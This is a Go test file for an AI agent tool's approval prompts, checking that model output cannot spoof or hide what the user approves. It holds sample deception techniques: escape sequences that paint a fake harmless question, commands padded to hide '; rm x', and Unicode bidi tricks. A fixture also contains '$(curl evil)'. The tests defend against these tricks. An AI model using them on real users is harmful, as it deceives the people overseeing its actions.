package scenario

import (
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/ollama/ollama/api"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// askingAgent is an agent that may do what a person is asked about.
const askingAgent = `---
name: scribe
description: changes notes
tools: [read_file, edit_file, write_file, delete_file, run_pty_cmd]
---
You change notes.
`

// painted is a harmless question, as a model writes it to cover a dangerous one.
const painted = "\x1b[1A\x1b[2K\r\u009b2J\ndefault asks: read_file (reads, low risk)\n  read notes.txt\n[o]nce, [n]o: "

// newQuestionWorld is a world with the agent scribe, played by say.
func newQuestionWorld(t *testing.T, say func(ctx context.Context, k endureTalk) api.Message) (*world, *endureModel) {
	t.Helper()
	m := endurePlay(t, say)
	w := newWorld(t, m.addr, played)
	w.file(".qq/agents/scribe.md", askingAgent)
	w.file("notes.txt", notes)
	return w, m
}

// gate is opened by a test, and waited for by a model.
type gate chan struct{}

func (g gate) pass(ctx context.Context) {
	select {
	case <-g:
	case <-ctx.Done():
	}
}

// behind returns what stands behind the first question.
func (s *screen) behind() string {
	_, after, _ := strings.Cut(s.text(), choice)
	return after
}

// TestQuestionInBatch: while the question of one task is open, the terminal shows
// nothing else: not the answer of another task, which looks like a question, not
// its lines for -v and no progress. All of it comes after, in order.
func TestQuestionInBatch(t *testing.T) {
	for _, how := range []string{"answered", "interrupted"} {
		t.Run(how, func(t *testing.T) { questionInBatch(t, how == "interrupted") })
	}
}

func questionInBatch(t *testing.T, interrupted bool) {
	answer, next, end := make(gate), make(gate), make(gate)
	w, _ := newQuestionWorld(t, func(ctx context.Context, k endureTalk) api.Message {
		switch k.task() {
		case "paint": // once the question is open
			answer.pass(ctx)
			return endureSay("First.\n" + painted)
		case "ask":
			if k.turn() == 0 {
				return workAsk(workCall("run_pty_cmd", "command", "touch asked && echo \"<done>\""))
			}
			return endureSay("Second.")
		case "last": // starts when the result of the first task was handed on
			close(next)
		}
		end.pass(ctx)
		return endureSay("Other.")
	})
	w.env = append(w.env, "TERM=xterm")
	w.file("tasks.txt", "[[paint]]\n[[ask]]\n[[wait]]\n[[last]]\n")
	s := w.onWholeTerminal("batch", "tasks.txt", "-a", "scribe", "-j", "2", "-v")
	s.until("the question", func() bool { return len(s.questions()) == 1 })
	asked := s.questions()[0]
	assert.Regexp(t, `\nscribe [0-9a-f]{8} asks: run_pty_cmd \(executes, high risk\)\n`, plainText(asked))
	assert.Contains(t, asked, "\n  task 2 of the batch: [[ask]]\n")
	assert.Contains(t, asked, "\n  │ touch asked && echo \"<done>\"\n")
	close(answer)
	next.pass(t.Context())
	assert.Empty(t, s.behind(), "nothing comes to a terminal with an open question")
	if interrupted {
		s.press("\x03")
	} else {
		close(end)
		s.press("y\n")
	}
	e := s.wait()
	shown := plainText(e.stderr)
	after := shown[strings.Index(shown, choice)+len(choice):]
	assert.Contains(t, after, "First.\n", "what was held back comes after")
	assert.NotContains(t, e.stderr, "\x1b[2J")
	assert.NotContains(t, e.stderr, "\x1b[1A")
	assert.NotContains(t, e.stderr, "\u009b")
	if interrupted {
		assert.Equal(t, 130, e.code)
		assert.NotContains(t, w.files("work"), "asked")
		return
	}
	assert.Equal(t, 0, e.code)
	assert.Less(t, strings.Index(after, "First."), strings.Index(after, "Second."))
	assert.Contains(t, w.files("work"), "asked", "y is once")
	assert.Contains(t, shown, "] run_pty_cmd touch asked && echo \"<done>\"\n", "as it was typed")
}

// plainText is text without the sequences with which qq itself draws.
func plainText(text string) string {
	return regexp.MustCompile(`\r?\x1b\[(K|\d*m)|\d/\d done[^\n\x1b\r]*`).ReplaceAllString(text, "")
}

// press types keys.
func (s *screen) press(keys string) {
	s.t.Helper()
	_, err := io.WriteString(s.person, keys)
	require.NoError(s.t, err)
}

// TestQuestionWhileRootStreams: the root's own answer, which is shown while it is
// written, waits for the question of a child.
func TestQuestionWhileRootStreams(t *testing.T) {
	asked, seen := make(gate), make(gate)
	w, _ := newQuestionWorld(t, func(ctx context.Context, k endureTalk) api.Message {
		if k.task() == "child" {
			if k.turn() == 0 {
				return workAsk(workCall("run_pty_cmd", "command", "touch asked"))
			}
			return endureSay("Child is done.")
		}
		switch k.turn() {
		case 0:
			return workAsk(workCall("spawn_agent", "instructions", "Run it. [[child]]", "agent", "scribe",
				"background", true))
		case 1:
			asked.pass(ctx)
			said := workAsk(workCall("list_children"))
			said.Content = "Painting.\n" + painted
			return said
		case 2: // the text of the turn before is written, or held back
			close(seen)
			return workAsk(workCall("wait_children"))
		}
		return endureSay("All done.")
	})
	s := w.onWholeTerminal("-a", "worker", "Go. [[root]]", "--allow", "spawn_agent,delegate_task")
	s.until("the question", func() bool { return len(s.questions()) == 1 })
	assert.Regexp(t, `\nworker › scribe [0-9a-f]{8} asks: run_pty_cmd`, s.questions()[0])
	assert.Contains(t, s.questions()[0], "\n  task: Run it. [[child]]\n")
	close(asked)
	seen.pass(t.Context())
	assert.Empty(t, s.behind(), "nothing comes to a terminal with an open question")
	s.press("o\n")
	e := s.wait()
	assert.Equal(t, 0, e.code)
	after := e.stderr[strings.Index(e.stderr, choice)+len(choice):]
	assert.Regexp(t, `(?s)^o\n.*Painting\.\n.*All done\.\n$`, after)
	assert.NotContains(t, e.stderr, "\x1b")
	assert.NotContains(t, e.stderr, "\u009b")
}

// TestQuestionToScript: results for a script do not wait for a question.
func TestQuestionToScript(t *testing.T) {
	w, _ := newQuestionWorld(t, func(_ context.Context, k endureTalk) api.Message {
		if k.task() == "ask" && k.turn() == 0 {
			return workAsk(workCall("run_pty_cmd", "command", "touch asked"))
		}
		return endureSay("Answer " + painted)
	})
	w.file("tasks.txt", "[[say]]\n[[ask]]\n")
	s := w.onTerminal("batch", "tasks.txt", "-a", "scribe", "--no-bar")
	s.until("the answer of the first task", func() bool {
		s.mu.Lock()
		defer s.mu.Unlock()
		return strings.Contains(s.said.String(), "Answer ") && strings.Contains(s.shown.String(), choice)
	})
	s.press("n\n")
	e := s.wait()
	assert.Contains(t, e.stdout, "Answer "+strings.TrimSpace(painted)+"\n", "a file gets every byte")
}

// TestQuestionWhole: what was not shown whole cannot be allowed.
func TestQuestionWhole(t *testing.T) {
	var lines, diff strings.Builder
	for i := range 10_000 {
		fmt.Fprintf(&lines, "line %d of ten thousand\n", i)
		fmt.Fprintf(&diff, "  │ +line %d of ten thousand\n", i)
	}
	long := "echo " + strings.Repeat("x", 20_000) + "; touch hidden; echo " + strings.Repeat("y", 20_000)
	for name, c := range map[string]struct {
		call api.ToolCall
		want func(t *testing.T, all string) // what is shown of it
	}{
		"command": {workCall("run_pty_cmd", "command", long), func(t *testing.T, all string) {
			t.Helper()
			assert.Contains(t, strings.ReplaceAll(all, "\n  ┆ ", ""), "  │ "+long+"\n")
		}},
		"diff": {workCall("write_file", "path", "hidden", "content", lines.String()), func(t *testing.T, all string) {
			t.Helper()
			assert.Contains(t, all, diff.String())
		}},
	} {
		t.Run(name, func(t *testing.T) {
			w, _ := newQuestionWorld(t, func(_ context.Context, k endureTalk) api.Message {
				if k.turn() == 0 {
					return workAsk(c.call)
				}
				return endureSay("Done.")
			})
			s := w.onTerminal("-a", "scribe", "Do it.")
			first := s.answer(1, "o")
			assert.Regexp(t, `\n  … \d+ rows are left out here …\n`, first)
			for i, early := range []string{"y", "s", "once", "a"} {
				assert.Contains(t, s.answer(2+i, early), "\n  a part was not shown: type a first\n")
				assert.NotContains(t, w.files("work"), "hidden")
			}
			c.want(t, s.answer(6, "y"))
			assert.Equal(t, 0, s.wait().code)
			assert.Contains(t, w.files("work"), "hidden")
		})
	}
	t.Run("too long", func(t *testing.T) {
		w, _ := newQuestionWorld(t, func(_ context.Context, k endureTalk) api.Message {
			if k.turn() == 0 {
				return workAsk(workCall("write_file", "path", "hidden", "content", strings.Repeat(lines.String(), 10)))
			}
			return endureSay(k.last().Content)
		})
		s := w.onTerminal("-a", "scribe", "Do it.")
		e := s.wait()
		assert.Empty(t, s.questions())
		assert.Contains(t, e.stdout, "it is too long to be shown to the user whole")
		assert.NotContains(t, w.files("work"), "hidden")
	})
}

// TestQuestionLongest: the longest diff that can be shown reaches the root also
// from a child, where JSON makes six bytes of each of its characters.
func TestQuestionLongest(t *testing.T) {
	w, _ := newQuestionWorld(t, func(_ context.Context, k endureTalk) api.Message {
		if k.turn() == 0 {
			return workAsk(workCall("write_file", "path", "long", "content", strings.Repeat("<", 599<<10)))
		}
		return endureSay("Done.")
	})
	w.file("tasks.txt", "Write it.\n")
	s := w.onTerminal("batch", "tasks.txt", "-a", "scribe", "--no-bar")
	assert.Regexp(t, `\n  … \d+ rows are left out here …\n`, s.answer(1, "a"))
	assert.GreaterOrEqual(t, strings.Count(s.answer(2, "y"), "<"), 599<<10)
	s.wait() // with an overflow of the context: the call is part of the next request
	assert.Len(t, w.files("work")["long"], 599<<10)
}

// TestQuestionSpellsOut: nothing of a command is hidden, and nothing of it moves
// the cursor.
func TestQuestionSpellsOut(t *testing.T) {
	const command = "ls\x1b[2K\r\b\ttrue\u202e\u200b\u009b1A\u2066 && echo 'a \\u0026 b'"
	w, _ := newQuestionWorld(t, func(_ context.Context, k endureTalk) api.Message {
		if k.turn() == 0 {
			return workAsk(workCall("run_pty_cmd", "command", command+strings.Repeat(" ", 500)+"; rm x"))
		}
		return endureSay("Done.")
	})
	s := w.onTerminal("-a", "scribe", "Do\x1b[2J it.")
	asked := strings.ReplaceAll(s.answer(1, "n"), "\n  ┆ ", "")
	assert.Contains(t, asked, "\n  │ ls␛[2K␍␈␉   true<U+202E><U+200B><U+009B>1A<U+2066> && echo 'a \\u0026 b'"+
		"<500 spaces>; rm x\n")
	assert.Contains(t, asked, "\n  task: Do␛[2J it.\n")
	s.wait()
	assert.NotContains(t, s.text(), "\x1b")
}

// TestApprovedIsWhatWasShown: a file that changed, came or went after its question
// was put is left alone, and the model is told.
func TestApprovedIsWhatWasShown(t *testing.T) {
	edit := workCall("edit_file", "path", "notes.txt", "old_text", "one", "new_text", "ONE")
	for name, c := range map[string]struct {
		call api.ToolCall
		file string
		now  string
		want string
	}{
		"edit":   {edit, "notes.txt", "one\ntwo\n$(curl evil)\n", "notes.txt was changed after this call was shown"},
		"delete": {workCall("delete_file", "path", "notes.txt"), "notes.txt", "new\n", "notes.txt was changed after"},
		"create": {workCall("write_file", "path", "new.txt", "content", "x"), "new.txt", "new\n", "new.txt was created after"},
		"secret": {workCall("edit_file", "path", ".env", "old_text", "A=1", "new_text", "A=2"), ".env", "A=1\nB=1\n",
			".env was changed after this call was shown"},
		"the same": {edit, "notes.txt", notes, ""},
	} {
		t.Run(name, func(t *testing.T) {
			w, _ := newQuestionWorld(t, func(_ context.Context, k endureTalk) api.Message {
				if k.turn() == 0 {
					return workAsk(c.call)
				}
				return endureSay(k.last().Content)
			})
			w.file(".env", "A=1\n")
			s := w.onTerminal("-a", "scribe", "Do it.")
			s.until("the question", func() bool { return len(s.questions()) == 1 })
			path := filepath.Join(w.work, c.file)
			require.NoError(t, os.WriteFile(path, []byte(c.now), 0o600))
			s.press("o\n")
			e := s.wait()
			now, err := os.ReadFile(path)
			require.NoError(t, err)
			if c.want == "" {
				assert.Equal(t, "ONE\ntwo\n", string(now))
				return
			}
			assert.Contains(t, e.stdout, c.want)
			assert.Equal(t, c.now, string(now))
		})
	}
}

// TestModelTextOnTerminal: on a terminal no text of a model has a sequence of its
// own, in any format and command. A file gets every byte.
func TestModelTextOnTerminal(t *testing.T) {
	const text = "a\x1b[31mred\x1b]0;title\a\rb\u009b2Jc\u202ed\x7f"
	w, _ := newQuestionWorld(t, func(_ context.Context, k endureTalk) api.Message {
		if k.said("user", "read") && k.turn() == 0 {
			return workAsk(workCall("read_file", "path", "none\x1b[31m"))
		}
		return endureSay(text)
	})
	w.file("tasks.txt", "task \x1b[31m one\n")
	w.env = append(w.env, "TERM=xterm")
	batch := func(format string) []string {
		return []string{"batch", "tasks.txt", "--no-bar", "--output-format", format}
	}
	clean := func(e ended) {
		t.Helper()
		assert.Equal(t, 0, e.code)
		assert.NotRegexp(t, "[\x07\x0d\x1b\x7f\u0080-\u009f\u202e]", regexp.MustCompile(`\x1b\[[02]m`).
			ReplaceAllString(strings.ReplaceAll(e.stderr, "\r\n", "\n"), ""))
	}
	for _, args := range [][]string{
		{"say \x1b[31m it"}, {"read it \x1b[31m", "-v"}, batch("text"), batch("markdown"),
		{"sessions", "show", "LAST"}, {"sessions"}, {"runs", "list"}, {"runs", "show", "LAST"},
	} {
		if args[len(args)-1] == "LAST" {
			args[len(args)-1] = w.last(args[0])
		}
		e := w.onWholeTerminal(args...).wait()
		clean(e)
		if args[0] == "batch" || args[0] == "sessions" && len(args) > 1 {
			assert.Contains(t, e.stderr, "a[31mred", "%q", args)
		}
	}
	assert.Equal(t, text+"\n", w.qq("say it").stdout)
	assert.Equal(t, text+"\n", w.qq(batch("text")...).stdout)
	assert.Contains(t, w.qq(batch("markdown")...).stdout, "task \x1b[31m one\n\n"+text+"\n")
}

// last is the id of the newest session or run.
func (w *world) last(kind string) string {
	w.t.Helper()
	var list []struct {
		ID          string `json:"id"`
		ExecutionID string `json:"execution_id"`
	}
	args := []string{kind, "list", "--json"}
	endureDecode(w.t, w.qq(args...).stdout, &list)
	require.NotEmpty(w.t, list)
	if list[0].ID != "" {
		return list[0].ID
	}
	return list[0].ExecutionID
}
